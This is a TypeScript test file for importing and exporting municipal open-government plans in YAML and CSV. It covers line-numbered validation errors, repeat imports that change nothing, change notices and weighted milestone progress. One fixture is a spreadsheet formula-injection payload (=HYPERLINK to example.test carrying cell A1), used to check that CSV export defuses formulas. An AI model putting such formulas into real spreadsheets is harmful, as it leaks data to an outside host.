/**
 * The plan file: a broken file is refused whole, each problem naming the file, the line and the field
 * (YAML and CSV); the same file twice changes nothing; export → import gives the same plan back in
 * both formats; progress is derived from the milestones and their weights.
 */
import { readFileSync } from "node:fs";
import { afterEach, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import type { Milestone } from "../src/domain/model/plan.js";
import { PlanFileError } from "../src/domain/plan/file-schema.js";
import { readPlanFile, writePlanFile } from "../src/domain/plan/plan-file.js";
import { commitmentStatus, progress, progressBar } from "../src/domain/plan/progress.js";
import { startBot, type TestBot } from "./helpers/app.js";
import { importPlan, metepecPlan } from "./helpers/plans.js";

let bot: TestBot | undefined;
afterEach(async () => {
  await bot?.close();
  bot = undefined;
});

function problemsOf(name: string, text: string): string[] {
  try {
    readPlanFile(name, text);
  } catch (err) {
    if (err instanceof PlanFileError) return err.problems;
    throw err;
  }
  throw new Error(`${name} was accepted`);
}

const fixture = (name: string) => readFileSync(`test/fixtures/plans/${name}`, "utf8");

describe("a broken plan file", () => {
  it("YAML: every problem is listed with the file, its line and the path of the field", () => {
    const problems = problemsOf("broken.yaml", fixture("broken.yaml"));
    expect(problems).toEqual(
      expect.arrayContaining([
        'broken.yaml:4: state: "en_proceso" is not a plan state (en_cocreacion, en_implementacion, concluido)',
        'broken.yaml:14: commitments[0].principles[1]: "honestidad" is not a principle (transparencia, rendicion, participacion, colaboracion, innovacion)',
        'broken.yaml:18: commitments[0].milestones[0].due: "31/03/2026" is not a date: write YYYY-MM-DD (2026-03-31)',
        'broken.yaml:19: commitments[0].milestones[1].evidence: "ftp://x" is not a web link (https://…)',
        "broken.yaml:19: commitments[0].milestones[1].weight: must be more than 0",
        'broken.yaml:21: commitments[0].indicators[0].current: "mucho" is not a number',
        "broken.yaml:22: commitments[1].title: is missing",
        "broken.yaml:23: commitments[1].titulo: unknown field titulo",
      ]),
    );
    expect(problems.every((p) => /^broken\.yaml:\d+: \S/.test(p))).toBe(true);
  });

  it("CSV: every problem is listed with the file, its row's line and the column", () => {
    expect(problemsOf("broken.csv", fixture("broken.csv"))).toEqual([
      "broken.csv:5: column commitment: no commitment row has number 7",
      'broken.csv:3: column end: "2026-13-40" is not a date: write YYYY-MM-DD (2026-03-31)',
      'broken.csv:4: column done: "ayer" is not a date: write YYYY-MM-DD (2026-03-31)',
      "broken.csv:6: column baseline: is missing",
      'broken.csv:6: column current: "muchas" is not a number',
    ]);
  });

  it("rules across fields: numbers twice, dates in the wrong order; unreadable YAML and CSV", () => {
    const plan = metepecPlan(new Date());
    plan.commitments[1].number = 1;
    plan.commitments[0].milestones[2].number = 2;
    plan.period = { start: "2027-01-01", end: "2026-01-01" };
    const problems = problemsOf("plan.yaml", stringify(plan));
    expect(problems).toEqual([
      "plan.yaml:5: period.end: the period ends (2026-01-01) before it starts (2027-01-01)",
      expect.stringMatching(/^plan\.yaml:\d+: commitments\[1\]\.number: commitment 1 is listed twice$/),
      expect.stringMatching(/^plan\.yaml:\d+: commitments\[0\]\.milestones\[2\]\.number: milestone 2 is listed twice$/),
    ]);
    expect(problemsOf("plan.yaml", "title: [unclosed\n")[0]).toMatch(/^plan\.yaml:\d+: /);
    expect(problemsOf("plan.csv", 'record,title\nplan,"never closed\n')).toEqual(['plan.csv:2: a quoted cell is never closed (a " is missing)']);
    expect(problemsOf("plan.csv", "record,colour\n")).toEqual([expect.stringMatching(/^plan\.csv:1: column 2 "colour" is not one of record, /)]);
    expect(problemsOf("plan.txt", "")).toEqual(["plan.txt: a plan file ends in .yaml, .yml or .csv"]);
  });

  it("an import that would drop a commitment, move a date without a reason or name an unknown municipality changes nothing", async () => {
    bot = await startBot();
    const plan = metepecPlan(bot.clock.now());
    await importPlan(bot.app, plan);
    const before = await bot.app.plans.get("15054");
    const moved = structuredClone(plan);
    moved.commitments[0].milestones[1].due = "2099-01-31";
    moved.commitments.pop();
    await expect(importPlan(bot.app, moved)).rejects.toThrow(PlanFileError);
    const err = await importPlan(bot.app, moved).catch((e: PlanFileError) => e);
    expect((err as PlanFileError).problems).toEqual([
      expect.stringMatching(/^plan\.yaml:\d+: commitments: commitment 2 is in the plan but not in the file/),
      expect.stringMatching(
        /^plan\.yaml:\d+: commitments\[0\]\.milestones\[1\]\.reason: the date of milestone 2 moves from \d{4}-\d\d-\d\d to 2099-01-31: say why in reason$/,
      ),
    ]);
    const elsewhere = { ...plan, municipality: "Metepek de Nada" };
    expect(((await importPlan(bot.app, elsewhere).catch((e) => e)) as PlanFileError).problems).toEqual([
      'plan.yaml:1: municipality: no municipality of the state is "Metepek de Nada" (write its INEGI key, such as 15054, or its name)',
    ]);
    expect(await bot.app.plans.get("15054")).toEqual(before);
  });
});

describe("importing and exporting", () => {
  it("the same file twice changes nothing: no new version, no notice, one trail entry", async () => {
    bot = await startBot();
    const plan = metepecPlan(bot.clock.now());
    expect(await importPlan(bot.app, plan)).toMatchObject({ created: 2, updated: 0, unchanged: 0, notices: 0 });
    const first = await bot.app.plans.get("15054");
    bot.clock.advance(60_000);
    expect(await importPlan(bot.app, plan)).toMatchObject({ created: 0, updated: 0, unchanged: 2, notices: 0 });
    expect(await bot.app.plans.get("15054")).toEqual(first);
    expect(await bot.app.store.events.list({ type: "plan_imported" }, 10)).toHaveLength(1);
    // By name, the same plan.
    expect(await importPlan(bot.app, { ...plan, municipality: "Metepec" })).toMatchObject({ created: 0, unchanged: 2 });
  });

  it("an update: texts change quietly; a milestone done, a date moved with its reason and an indicator become changes for followers", async () => {
    bot = await startBot();
    const plan = metepecPlan(bot.clock.now());
    await importPlan(bot.app, plan);
    const next = structuredClone(plan);
    next.commitments[1].title = "Obras a la vista";
    next.commitments[0].milestones[1].done = plan.commitments[0].milestones[0].done;
    next.commitments[0].milestones[2] = { ...next.commitments[0].milestones[2], due: "2099-12-31", reason: "Se amplió el alcance" } as never;
    next.commitments[0].indicators[0].current = 80;
    expect(await importPlan(bot.app, next)).toMatchObject({ created: 0, updated: 2, unchanged: 0, notices: 3 });
    const c1 = await bot.app.store.commitments.get("15054-1");
    expect(c1?.changes.map((c) => c.kind)).toEqual(["milestone_done", "milestone_moved", "indicator_updated"]);
    expect(c1).toMatchObject({ version: 2, dispatchPending: true });
    expect(await bot.app.store.commitments.get("15054-2")).toMatchObject({ title: "Obras a la vista", version: 2, dispatchPending: false, changes: [] });
    const trail = await bot.app.store.events.list({ municipality: "15054" }, 10);
    expect(trail.map((e) => e.type).sort()).toEqual(["indicator_updated", "milestone_done", "milestone_moved", "plan_imported", "plan_imported"]);
  });

  it.each(["yaml", "csv"] as const)("export → import in %s gives the same plan back, and changes nothing", async (format) => {
    bot = await startBot();
    const plan = metepecPlan(bot.clock.now());
    // Text that needs quoting in either format.
    plan.commitments[0].actions = 'Censo, "tablero" público;\ny rondas: mensuales';
    // Text a spreadsheet would run as a formula, and text that only starts with an apostrophe.
    plan.commitments[1].actions = '=HYPERLINK("http://example.test/?x="&A1,"Ver evidencia")';
    plan.commitments[1].title = "'Obras' a la vista";
    await importPlan(bot.app, plan);
    const stored = await bot.app.plans.get("15054");
    if (!stored) throw new Error("no plan");
    const text = writePlanFile(format, stored.plan, stored.commitments);
    const read = readPlanFile(`plan.${format}`, text);
    // In CSV no cell starts a formula: it starts with an apostrophe, taken off again when read.
    if (format === "csv") expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
    if (format === "csv") expect(text).toContain(`"'=HYPERLINK(`);
    bot.clock.advance(60_000);
    expect(await bot.app.plans.import(read.plan, read.where)).toMatchObject({ created: 0, updated: 0, unchanged: 2 });
    expect(await bot.app.plans.get("15054")).toEqual(stored);
    expect(writePlanFile(format, stored.plan, stored.commitments)).toBe(text);
    // The file is the plan: read back into a fresh store it holds the same commitments.
    const fresh = await startBot();
    try {
      await fresh.app.plans.import(read.plan, read.where);
      const copy = await fresh.app.plans.get("15054");
      const strip = (list: typeof stored.commitments) => list.map(({ createdAt: _c, updatedAt: _u, ...rest }) => rest);
      expect(strip(copy?.commitments ?? [])).toEqual(strip(stored.commitments));
    } finally {
      await fresh.close();
    }
  });
});

describe("progress", () => {
  const m = (weight: number, done: boolean, due = "2026-06-30"): Milestone => ({
    number: 1,
    title: "x",
    due,
    done: done ? "2026-01-01" : null,
    evidence: null,
    weight,
    reason: null,
  });

  it("is the weight done over the weight in all, rounded down, and never typed", () => {
    expect(progress([])).toBe(0);
    expect(progress([m(1, true), m(2, false), m(1, false)])).toBe(25);
    expect(progress([m(1, true), m(2, true), m(1, false)])).toBe(75);
    expect(progress([m(1, true), m(1, true), m(1, false)])).toBe(66);
    expect(progress([m(1, true), m(1, true)])).toBe(100);
    expect(progress([m(0.5, true), m(1.5, false)])).toBe(25);
  });

  it("shows as five cells, one per whole fifth", () => {
    expect(progressBar(0)).toBe("░░░░░");
    expect(progressBar(19)).toBe("░░░░░");
    expect(progressBar(60)).toBe("▓▓▓░░");
    expect(progressBar(99)).toBe("▓▓▓▓░");
    expect(progressBar(100)).toBe("▓▓▓▓▓");
  });

  it("status: not started, in progress, late when a milestone not done is past its day, fulfilled, or what the secretariat set", () => {
    const today = "2026-07-01";
    expect(commitmentStatus({ state: "vigente", milestones: [m(1, false, "2026-08-01")] }, today)).toBe("sin_iniciar");
    expect(commitmentStatus({ state: "vigente", milestones: [m(1, true), m(1, false, "2026-08-01")] }, today)).toBe("en_proceso");
    expect(commitmentStatus({ state: "vigente", milestones: [m(1, true), m(1, false, "2026-06-30")] }, today)).toBe("con_retraso");
    expect(commitmentStatus({ state: "vigente", milestones: [m(1, true)] }, today)).toBe("cumplido");
    expect(commitmentStatus({ state: "cancelado", milestones: [m(1, true)] }, today)).toBe("cancelado");
  });
});
